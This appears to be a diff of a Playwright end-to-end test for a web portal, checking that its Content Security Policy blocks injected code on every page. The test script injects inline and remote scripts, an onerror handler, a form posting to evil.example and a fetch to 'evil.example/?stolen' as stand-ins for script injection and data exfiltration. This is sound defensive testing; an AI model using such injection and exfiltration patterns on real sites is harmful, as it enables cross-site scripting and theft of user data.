@@ -1,17 +1,27 @@
 """The browser itself reports what a page's policy forbids: on every page, in whatever it does, nothing."""
 
-from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import Page, expect
 
-from portal_app.demo.people import PASSWORD
 from tests.e2e.people import ADMIN, CUSTOMER, OPERATOR, People, ready, sign_in
 from tests.security.pipeline import app
 
 WATCH = """() => { window.broken = []; addEventListener('securitypolicyviolation',
   (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)); }"""
+# In tasks of their own: within its own evaluation the browser's driver lets `eval` through.
+ATTEMPTS = """async () => {
+  const later = (what) => new Promise((done) => setTimeout(() => { try { what() } catch {} done() }, 0));
+  const add = (more) => document.body.append(Object.assign(document.createElement('script'), more));
+  await later(() => add({ textContent: 'window.ran = 1' }));
+  await later(() => add({ src: 'https://evil.example/x.js' }));
+  await later(() => document.body.insertAdjacentHTML('beforeend',
+    '<img src="data:," onerror="window.ran = 2"><form action="https://evil.example/"></form>'));
+  await later(() => { window.ran = (0, eval)('3'); });
+  await later(() => document.forms[document.forms.length - 1].submit());
+  await fetch('https://evil.example/?stolen').catch(() => 0);
+}"""
 PAGES = sorted(f"/{route}".replace("/index", "/") for route in app._unevaluated_pages if "[" not in route)
 
 
@@ -40,10 +50,9 @@ def test_no_page_needs_what_its_policy_forbids(people: People, email: str, path:
 def test_working_through_the_portal_needs_nothing_more(people: People) -> None:
     """Sign-in, live rows, dialogs, colour mode, the search, going from page to page, a download, a file, sign-out."""
     page = watched(people, "", "/login")
-    sign_in(page, ADMIN, PASSWORD)
+    sign_in(page, ADMIN)
     ready(page)
     page.get_by_role("button", name="Dark").or_(page.get_by_role("button", name="dark")).first.click()
-    page.get_by_role("checkbox", name="Select").first.or_(page.locator("table input[type=checkbox]").nth(1)).first.check()
     page.keyboard.press("/")
     page.keyboard.type("a")
     policy_kept(page)
@@ -74,17 +83,7 @@ def test_foreign_scripts_do_not_run(people: People) -> None:
     people.expect_fault("Content Security Policy|csp")
     page = watched(people, ADMIN, "/")
     ready(page)
-    tried: Any = page.evaluate(
-        """async () => {
-          const inline = document.createElement('script'); inline.textContent = 'window.ran = 1'; document.body.append(inline);
-          const far = document.createElement('script'); far.src = 'https://evil.example/x.js'; document.body.append(far);
-          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 2"><form action="https://evil.example/">');
-          try { window.ran = (0, eval)('3') } catch {}
-          await fetch('https://evil.example/?stolen').catch(() => 0);
-          document.forms[document.forms.length - 1].submit();
-          await new Promise((done) => setTimeout(done, 300));
-          return [window.ran ?? 0, window.broken.map((one) => one.split(' ')[0])];
-        }"""
-    )
-    assert tried[0] == 0
-    assert {"script-src-elem", "script-src-attr", "script-src", "connect-src", "form-action"} <= set(tried[1])
+    page.evaluate(ATTEMPTS)
+    for directive in ("script-src-elem", "script-src-attr", "script-src", "connect-src", "form-action"):
+        page.wait_for_function("(name) => window.broken.some((one) => one.startsWith(name + ' '))", arg=directive)
+    assert page.evaluate("window.ran ?? 0") == 0
